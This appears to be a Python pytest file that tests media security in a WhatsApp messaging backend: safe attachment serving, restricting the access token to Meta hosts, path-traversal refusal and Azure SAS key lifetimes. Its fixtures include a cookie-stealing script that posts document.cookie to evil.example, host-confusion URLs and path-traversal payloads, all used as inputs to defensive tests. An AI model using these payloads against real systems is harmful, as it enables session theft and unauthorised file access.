"""Media security (issue 10, items 4-6): customers' files are downloads of a safe type, the WhatsApp
token goes only to Meta's media hosts, a `mediaUrl` cannot climb out of the uploads, and a user
delegation key always outlives the URLs it signs. Blob Storage is Azurite; Meta is a stand-in."""

from __future__ import annotations

import base64
import hashlib
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests
from azure.core.credentials import AccessToken
from azure.storage.blob import BlobServiceClient, ContentSettings, UserDelegationKey
from pytest_httpserver import HTTPServer
from urllib3 import encode_multipart_formdata
from werkzeug.test import Client

from shared.conversations.documents import conversation_id, document_id
from shared.conversations.ports import UnsafeBlobName
from shared.conversations.queue_messages import MediaCopyRequest
from shared.media.inbound_copy import CopyInboundMedia, MediaUrlRefused
from shared.media.names import inbound_blob_name, served_type, served_type_of_name
from shared.media.rules import SUPPORTED
from shared.services import Services, get_services
from shared.storage.blob_media import BlobMediaStore
from shared.storage.names import MEDIA_INBOUND_QUEUE
from shared.whatsapp.graph_client import GraphClient
from tests.api import deliver, messages, send_message
from tests.conftest import Queues
from tests.media_files import jpeg, png
from tests.payloads import inbound, message, new_wamid

WA = "447700900124"
TOKEN = "test-access-token"
LOOKASIDE = "lookaside.fbsbx.com"
ATTACK_PAGE = b"<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>"


class StandInNetwork(requests.Session):
    """Every request the Graph client makes, recorded with its Authorization header. Loopback goes to
    the local stand-ins; anything else is answered here with `remote_content` (never the internet)."""

    def __init__(self, remote_content: bytes = b""):
        super().__init__()
        self.remote_content = remote_content
        self.sent: list[tuple[str, str | None]] = []

    def send(self, request: requests.PreparedRequest, **kwargs: Any) -> requests.Response:
        url = request.url or ""
        self.sent.append((url, request.headers.get("Authorization")))
        if urlsplit(url).hostname in ("localhost", "127.0.0.1"):
            return super().send(request, **kwargs)
        response = requests.Response()
        response.status_code = 200
        response.url = url
        response.request = request
        response.raw = io.BytesIO(self.remote_content)
        return response

    def hosts(self) -> list[str | None]:
        return [urlsplit(url).hostname for url, _ in self.sent]


class MetaLookup:
    """The stand-in Graph API's `GET /{media-id}`, answering with whatever download URL a test names."""

    def __init__(self, server: HTTPServer, services: Services, network: StandInNetwork):
        self.server = server
        self.network = network
        self.client = GraphClient(
            server.url_for("/").rstrip("/"),
            "v23.0",
            TOKEN,
            session=network,
            sleep=lambda _: None,
            media_hosts={LOOKASIDE, "localhost"},
        )
        services.sender = self.client

    def answers(self, media_id: str, url: str, content: bytes, mime_type: str) -> None:
        self.server.expect_request(f"/v23.0/{media_id}", method="GET").respond_with_json(
            {
                "messaging_product": "whatsapp",
                "url": url,
                "mime_type": mime_type,
                "sha256": base64.b64encode(hashlib.sha256(content).digest()).decode(),
                "file_size": len(content),
                "id": media_id,
            }
        )

    def serves(self, media_id: str, content: bytes, mime_type: str) -> None:
        """Like Meta: the download URL is on the same stand-in and needs the token."""
        self.answers(media_id, self.server.url_for(f"/download/{media_id}"), content, mime_type)
        self.server.expect_request(
            f"/download/{media_id}", method="GET", headers={"Authorization": f"Bearer {TOKEN}"}
        ).respond_with_data(content, content_type=mime_type)


@pytest.fixture
def network() -> StandInNetwork:
    return StandInNetwork()


@pytest.fixture
def meta(httpserver: HTTPServer, services: Services, network: StandInNetwork) -> MetaLookup:
    return MetaLookup(httpserver, services, network)


def customer_sends(client: Client, phone_number_id: str, kind: str, media_id: str, mime_type: str) -> str:
    wamid = new_wamid()
    body = {"mime_type": mime_type, "id": media_id}
    if kind == "document":
        body["filename"] = "invoice.html"
    deliver(client, inbound(phone_number_id, WA, message(kind, body, wa_id=WA, wamid=wamid)))
    return wamid


def copy_queued(services: Services, queues: Queues) -> str:
    [request] = queues.messages(MEDIA_INBOUND_QUEUE)
    copier = CopyInboundMedia(services.store, services.media, services.sender, services.queue)
    return copier(MediaCopyRequest.model_validate(request))


def stored_media(services: Services, phone_number_id: str, wamid: str) -> dict[str, Any]:
    stored = services.store.read(conversation_id(phone_number_id, WA), document_id(wamid))
    assert stored is not None
    media: dict[str, Any] = stored["media"]
    return media


def upload(client: Client, content: bytes, filename: str) -> Any:
    body, multipart_type = encode_multipart_formdata(
        {"file": (filename, content, "application/octet-stream")}
    )
    response = client.post("/api/media", data=body, headers={"Content-Type": multipart_type})
    assert response.status_code == 201, response.text
    return response.json


# --- item 4: files are served as attachments, typed only from the allowlist --------------------


def test_a_customers_html_document_is_served_as_an_attachment_of_opaque_bytes(
    client: Client, meta: MetaLookup, services: Services, queues: Queues, phone_number_id: str
) -> None:
    wamid = customer_sends(client, phone_number_id, "document", "m-html", "text/html")
    meta.serves("m-html", ATTACK_PAGE, "text/html")
    assert copy_queued(services, queues) == "copied"

    [shown] = messages(client, phone_number_id, WA)
    served = requests.get(shown["media"]["url"], timeout=5)
    assert served.status_code == 200
    assert served.content == ATTACK_PAGE
    assert served.headers["Content-Type"] == "application/octet-stream"
    assert served.headers["Content-Disposition"].startswith("attachment")
    # The blob itself is stored that way too, for any reader that is not our read URL.
    blob_name = stored_media(services, phone_number_id, wamid)["blobName"]
    assert isinstance(services.media, BlobMediaStore)
    props = services.media.container.get_blob_client(blob_name).get_blob_properties()
    assert props.content_settings.content_type == "application/octet-stream"
    assert props.content_settings.content_disposition.startswith("attachment; filename=")


def test_a_customers_photo_keeps_its_type_and_is_still_an_attachment(
    client: Client, meta: MetaLookup, services: Services, queues: Queues, phone_number_id: str
) -> None:
    photo = jpeg()
    customer_sends(client, phone_number_id, "image", "m-jpeg", "image/jpeg")
    meta.serves("m-jpeg", photo, "image/jpeg")
    assert copy_queued(services, queues) == "copied"

    [shown] = messages(client, phone_number_id, WA)
    served = requests.get(shown["media"]["url"], timeout=5)
    assert served.content == photo
    assert served.headers["Content-Type"] == "image/jpeg"  # the chat panel's <img> shows it
    assert served.headers["Content-Disposition"].startswith("attachment")


def test_an_agents_upload_is_served_as_an_attachment_with_its_type(client: Client) -> None:
    uploaded = upload(client, png(), "receipt.png")
    served = requests.get(uploaded["mediaUrl"], timeout=5)
    assert served.headers["Content-Type"] == "image/png"
    assert served.headers["Content-Disposition"] == 'attachment; filename="receipt.png"'


def test_a_blob_stored_before_the_rule_is_served_safely_by_its_url(services: Services) -> None:
    """The read URL pins rsct/rscd itself (Azurite honours them, as Azure does)."""
    assert isinstance(services.media, BlobMediaStore)
    name = f"inbound/2025/01/legacy/{new_wamid()}.html"
    services.media.container.get_blob_client(name).upload_blob(
        ATTACK_PAGE, overwrite=True, content_settings=ContentSettings(content_type="text/html")
    )
    url = services.media.read_url(name, 5)
    query = parse_qs(urlsplit(url).query)
    assert query["rsct"] == ["application/octet-stream"]
    assert query["rscd"][0].startswith("attachment")
    served = requests.get(url, timeout=5)
    assert served.headers["Content-Type"] == "application/octet-stream"
    assert served.headers["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize(
    ("declared", "served"),
    [
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("text/html; charset=utf-8", "application/octet-stream"),
        ("", "application/octet-stream"),
        ("audio/ogg; codecs=opus", "audio/ogg"),
        ("IMAGE/PNG", "image/png"),
        ("application/pdf", "application/pdf"),
    ],
)
def test_only_types_whatsapp_accepts_keep_their_type(declared: str, served: str) -> None:
    assert served_type(declared) == served


@pytest.mark.parametrize("mime_type", sorted(SUPPORTED))
def test_every_accepted_type_is_served_with_its_own_type_by_its_blobs_name(mime_type: str) -> None:
    name = inbound_blob_name("1:2", "wamid.X", mime_type, datetime(2026, 1, 2, tzinfo=UTC))
    assert served_type_of_name(name) == mime_type


# --- item 5: the access token goes only to Meta's media hosts ----------------------------------

REFUSED_URLS = {
    "another-host": "https://evil.example/x",
    "plain-http": f"http://{LOOKASIDE}/x",
    "suffix-host": f"https://{LOOKASIDE}.evil.example/x",
    "userinfo": f"https://{LOOKASIDE}@evil.example/",
}


@pytest.mark.parametrize("url", REFUSED_URLS.values(), ids=REFUSED_URLS.keys())
def test_a_download_url_off_the_media_hosts_gets_no_request_and_the_media_is_unavailable(
    client: Client,
    meta: MetaLookup,
    network: StandInNetwork,
    services: Services,
    queues: Queues,
    phone_number_id: str,
    url: str,
) -> None:
    network.remote_content = ATTACK_PAGE
    wamid = customer_sends(client, phone_number_id, "document", "m-evil", "application/pdf")
    meta.answers("m-evil", url, ATTACK_PAGE, "application/pdf")

    assert copy_queued(services, queues) == "unavailable"
    assert network.hosts() == ["localhost"]  # the lookup only: nothing was sent anywhere else
    media = stored_media(services, phone_number_id, wamid)
    assert media["status"] == "unavailable"
    assert media["unavailableReason"]
    assert "blobName" not in media


def test_a_download_url_on_another_local_server_reaches_it_not(
    client: Client,
    meta: MetaLookup,
    services: Services,
    queues: Queues,
    phone_number_id: str,
) -> None:
    """A real second server (127.0.0.1 is not an allowed host here): its log stays empty."""
    other = HTTPServer(host="127.0.0.1", port=0)
    other.expect_request("/x").respond_with_data(ATTACK_PAGE)
    other.start()
    try:
        wamid = customer_sends(client, phone_number_id, "document", "m-local", "application/pdf")
        meta.answers("m-local", other.url_for("/x"), ATTACK_PAGE, "application/pdf")
        assert copy_queued(services, queues) == "unavailable"
        assert other.log == []
    finally:
        other.clear()
        other.stop()
    assert "127.0.0.1" in stored_media(services, phone_number_id, wamid)["unavailableReason"]


def test_the_documented_media_host_gets_the_token(
    client: Client,
    meta: MetaLookup,
    network: StandInNetwork,
    services: Services,
    queues: Queues,
    phone_number_id: str,
) -> None:
    photo = jpeg()
    network.remote_content = photo
    wamid = customer_sends(client, phone_number_id, "image", "m-fb", "image/jpeg")
    meta.answers(
        "m-fb", f"https://{LOOKASIDE}/whatsapp_business/attachments/?mid=1&ext=2", photo, "image/jpeg"
    )

    assert copy_queued(services, queues) == "copied"
    [_, (url, authorization)] = network.sent
    assert urlsplit(url).hostname == LOOKASIDE
    assert authorization == f"Bearer {TOKEN}"
    media = stored_media(services, phone_number_id, wamid)
    assert media["status"] == "stored"
    assert b"".join(services.media.open(media["blobName"]).chunks) == photo


@pytest.mark.parametrize(
    "url",
    [
        *REFUSED_URLS.values(),
        f"https://{LOOKASIDE}:8443/x",
        f"https://{LOOKASIDE}\\@evil.example/x",
        f"https://meta@{LOOKASIDE}/x",  # a user name on the right host: requests would send it as Basic auth
        f"https://{LOOKASIDE}./x",
        f"ftp://{LOOKASIDE}/x",
        "//evil.example/x",
        "javascript:alert(1)",
        f"https://{LOOKASIDE}/x y",
        "https://[::1/x",
        "http://127.0.0.1:9/x",  # loopback, but not an allowed host of this client
    ],
)
def test_the_graph_client_refuses_before_any_request(url: str) -> None:
    network = StandInNetwork()
    graph = GraphClient(
        "https://graph.facebook.com", "v23.0", TOKEN, session=network, media_hosts={LOOKASIDE}
    )
    with pytest.raises(MediaUrlRefused):
        graph.download(url)  # raised by the call itself, not when the stream is first read
    assert network.sent == []


@pytest.mark.parametrize("url", [f"https://{LOOKASIDE}/x?a=1", "https://LOOKASIDE.fbsbx.com:443/x"])
def test_the_graph_client_sends_the_token_to_meta(url: str) -> None:
    network = StandInNetwork(b"bytes")
    graph = GraphClient("https://graph.facebook.com", "v23.0", TOKEN, session=network)
    assert b"".join(graph.download(url)) == b"bytes"
    [(sent_to, authorization)] = network.sent
    assert (urlsplit(sent_to).hostname, authorization) == (LOOKASIDE, f"Bearer {TOKEN}")


def test_a_local_graph_stand_in_may_serve_downloads_over_http() -> None:
    graph = GraphClient("http://127.0.0.1:8080", "v23.0", TOKEN, session=StandInNetwork())
    assert graph.media_hosts == {LOOKASIDE, "127.0.0.1"}
    assert GraphClient("https://graph.facebook.com", "v23.0", TOKEN).media_hosts == {LOOKASIDE}


def test_the_app_builds_its_graph_client_with_the_configured_media_hosts(
    local_stack: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shared import services as services_module

    monkeypatch.setenv("WHATSAPP_MEDIA_HOSTS", "media.example.net")
    services_module.reset()
    try:
        sender = get_services().sender
        assert isinstance(sender, GraphClient)
        assert sender.media_hosts == get_services().settings.media_download_hosts
        assert "media.example.net" in sender.media_hosts
        assert LOOKASIDE not in sender.media_hosts
    finally:
        services_module.reset()


# --- item 6: a mediaUrl cannot climb out of the uploads ----------------------------------------

CLIMBS = {
    "encoded-dot-dot-slash": "outbound/..%2F..%2Finbound/2026/01/c/secret.jpg",
    "encoded-dots": "outbound/%2e%2e/inbound/secret.jpg",
    "dot-dot": "outbound/2026/../../inbound/secret.jpg",
    "dot": "outbound/./2026/x.png",
    "empty-segment": "outbound//x.png",
    "trailing-slash": "outbound/2026/",
    "folder-only": "outbound",
    "container-itself": "",
    "backslash": "outbound\\..\\inbound\\x.png",
    "encoded-backslash": "outbound/..%5C..%5Cinbound%5Cx.png",
    "encoded-slash-as-separator": "outbound%2F2026%2Fx.png",
    "double-encoded": "outbound/%252e%252e/x.png",
    "control-character": "outbound/x%0A.png",
    "nul": "outbound/x%00.png",
    "non-ascii": "outbound/caf%C3%A9.png",
    "not-utf-8": "outbound/%FF.png",
    "inbound-folder": "inbound/2026/01/c/secret.jpg",
    "other-folder": "secrets/keys.json",
    "wrong-case": "OUTBOUND/2026/x.png",
}


@pytest.mark.parametrize("name", CLIMBS.values(), ids=CLIMBS.keys())
def test_a_url_into_our_container_that_is_not_an_upload_is_refused(services: Services, name: str) -> None:
    assert isinstance(services.media, BlobMediaStore)
    with pytest.raises(UnsafeBlobName):
        services.media.blob_name_of(f"{services.media.container.url}/{name}?sv=x&sig=y")


def test_an_upload_url_names_its_blob_and_other_urls_are_not_ours(client: Client, services: Services) -> None:
    uploaded = upload(client, png(), "receipt.png")
    assert services.media.blob_name_of(uploaded["mediaUrl"]) == uploaded["blobName"]
    assert isinstance(services.media, BlobMediaStore)
    container = urlsplit(services.media.container.url)
    account = container.path.rsplit("/", 1)[0]
    assert services.media.blob_name_of("https://cdn.example.com/media/outbound/..%2Fx") is None
    other_container = f"{container.scheme}://{container.netloc}{account}/other/outbound/x.png"
    assert services.media.blob_name_of(other_container) is None


def test_sending_a_url_that_climbs_out_of_the_uploads_is_a_400(
    client: Client, httpserver: HTTPServer, services: Services, phone_number_id: str
) -> None:
    """Needs shared/conversations/send.py to answer UnsafeBlobName with 400 invalid_request."""
    services.sender = GraphClient(httpserver.url_for("/").rstrip("/"), "v23.0", TOKEN, sleep=lambda _: None)
    deliver(client, inbound(phone_number_id, WA, message("text", {"body": "hi"}, wa_id=WA)))
    assert isinstance(services.media, BlobMediaStore)
    secret = f"inbound/2026/01/{phone_number_id}/secret.png"
    services.media.put(secret, png(), "image/png", {"kind": "image"})
    climb = f"{services.media.container.url}/outbound/..%2F{secret.replace('/', '%2F')}"
    response = send_message(client, phone_number_id, WA, type="image", mediaUrl=climb)
    assert response.status_code == 400, response.text
    assert response.json["error"]["code"] == "invalid_request"
    assert httpserver.log == []  # nothing was uploaded to Meta or sent


# --- MEDIA_URL_MINUTES: a user delegation key always outlives the URL it signs ------------------


class _Credential:
    def get_token(self, *scopes: str, **kwargs: Any) -> AccessToken:
        return AccessToken("token", 2**31)


class DelegationService(BlobServiceClient):
    """A managed-identity account (no key) that records each delegation key asked for; no network."""

    def __init__(self) -> None:
        super().__init__("https://account.blob.core.windows.net", credential=_Credential())
        self.key_requests: list[tuple[datetime, datetime]] = []

    def get_user_delegation_key(
        self, key_start_time: datetime, key_expiry_time: datetime, **kwargs: Any
    ) -> UserDelegationKey:
        self.key_requests.append((key_start_time, key_expiry_time))
        key = UserDelegationKey()  # type: ignore[no-untyped-call]
        key.signed_oid = "00000000-0000-0000-0000-000000000001"
        key.signed_tid = "00000000-0000-0000-0000-000000000002"
        key.signed_start = key_start_time.strftime("%Y-%m-%dT%H:%M:%SZ")
        key.signed_expiry = key_expiry_time.strftime("%Y-%m-%dT%H:%M:%SZ")
        key.signed_service = "b"
        key.signed_version = "2025-01-05"
        key.value = base64.b64encode(b"k" * 32).decode()
        return key


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now


def _query_time(url: str, field: str) -> datetime:
    [value] = parse_qs(urlsplit(url).query)[field]
    return datetime.strptime(value, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)


def _signed(store: BlobMediaStore, minutes: int) -> tuple[datetime, datetime]:
    """The expiry of a new read URL, and of the key that signed it."""
    url = store.read_url("outbound/2026/03/x/receipt.png", minutes)
    return _query_time(url, "se"), _query_time(url, "ske")


@pytest.fixture
def delegation() -> tuple[BlobMediaStore, DelegationService, Clock]:
    service, clock = DelegationService(), Clock()
    return BlobMediaStore(service, "media", clock=clock), service, clock


@pytest.mark.parametrize("minutes", [1, 60, 6 * 60, 24 * 60])
def test_a_delegation_key_outlives_the_url_it_signs(
    delegation: tuple[BlobMediaStore, DelegationService, Clock], minutes: int
) -> None:
    store, service, clock = delegation
    sas_expiry, key_expiry = _signed(store, minutes)
    assert sas_expiry == clock.now + timedelta(minutes=minutes)
    assert key_expiry > sas_expiry
    [(_, asked_expiry)] = service.key_requests
    assert asked_expiry - clock.now <= timedelta(days=7)


def test_a_key_is_reused_until_it_would_die_before_the_url_then_refreshed(
    delegation: tuple[BlobMediaStore, DelegationService, Clock],
) -> None:
    store, service, clock = delegation
    for _ in range(3):
        _signed(store, 60)
    assert len(service.key_requests) == 1
    [(_, first_expiry)] = service.key_requests

    sas_expiry, key_expiry = _signed(store, 24 * 60)  # longer than the cached key lives
    assert len(service.key_requests) == 2
    assert key_expiry >= sas_expiry > first_expiry

    clock.now = key_expiry - timedelta(minutes=30)  # the cached key would die before a 60-minute URL
    sas_expiry, key_expiry = _signed(store, 60)
    assert len(service.key_requests) == 3
    assert key_expiry >= sas_expiry


def test_a_url_longer_than_azure_allows_a_key_is_cut_to_the_key(
    delegation: tuple[BlobMediaStore, DelegationService, Clock],
) -> None:
    store, service, clock = delegation
    sas_expiry, key_expiry = _signed(store, 30 * 24 * 60)
    [(_, asked_expiry)] = service.key_requests
    assert asked_expiry - clock.now <= timedelta(days=7)
    assert sas_expiry <= key_expiry


def test_a_user_delegation_url_is_an_attachment_signed_with_the_key() -> None:
    url = BlobMediaStore(DelegationService(), "media").read_url("outbound/a/b.pdf", 5)
    query = parse_qs(urlsplit(url).query)
    assert {"skoid", "sktid", "ske", "se", "sig"} <= set(query)
    assert query["rscd"] == ['attachment; filename="b.pdf"']
    assert query["rsct"] == ["application/pdf"]
